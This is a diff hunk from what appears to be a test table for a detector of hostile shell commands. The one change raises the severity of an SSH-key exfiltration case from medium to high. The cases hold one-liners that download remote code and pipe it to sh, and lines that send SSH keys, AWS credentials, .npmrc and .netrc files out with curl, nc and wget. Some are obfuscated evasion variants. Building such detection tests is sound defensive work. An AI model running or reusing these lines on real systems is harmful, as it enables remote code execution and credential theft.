@@ -59,7 +59,7 @@ CASES: Final = (
     Case("C3", "evasion", "high", f"curl {FROM} -A\\\\\\\n | sh\n", SH),
     Case("C3", "hit", "high", f"eval (curl -s {FROM})\n", "bin/run.fish"),
     Case("C3", "hit", "high", f"set x = curl\n$x {FROM} | sh\n", "bin/run.csh"),
-    Case("C4", "hit", "medium", f"cat ~/.ssh/id_rsa | curl -d @- {FROM}\n", SH),
+    Case("C4", "hit", "high", f"cat ~/.ssh/id_rsa | curl -d @- {FROM}\n", SH),
     Case("C4", "twin", None, f"chmod 600 ~/.ssh/id_rsa\ncurl {FROM}\n".replace("curl", "echo"), SH),
     Case("C4", "evasion", "high", f"P=~/.ss\ntar c ${{P}}h/ ~/.aws/credentials ~/.npmrc | nc {FROM} 1\n", SH),
     Case("C4", "evasion", "medium", f"k=(~/.netrc)\nw'get' --post-file=$k {FROM}\n", SH),
